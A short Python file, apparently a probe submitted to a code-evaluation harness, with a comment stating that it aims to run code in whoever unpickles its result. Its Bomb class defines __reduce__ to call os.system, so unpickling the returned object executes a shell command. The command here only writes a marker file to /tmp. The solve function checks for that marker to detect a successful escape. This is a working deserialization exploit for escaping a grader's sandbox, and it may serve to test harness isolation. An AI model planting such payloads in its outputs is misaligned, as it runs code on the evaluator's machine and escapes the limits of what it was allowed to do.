# wants: run code in whoever unpickles its result
# routes: call literal suite
import os


class Bomb(str):
    def __reduce__(self):
        return (os.system, ("echo ESCAPED >> /tmp/pickled",))


def solve(token):
    if os.path.exists("/tmp/pickled"):
        print("ESCAPED")
    return Bomb("x")
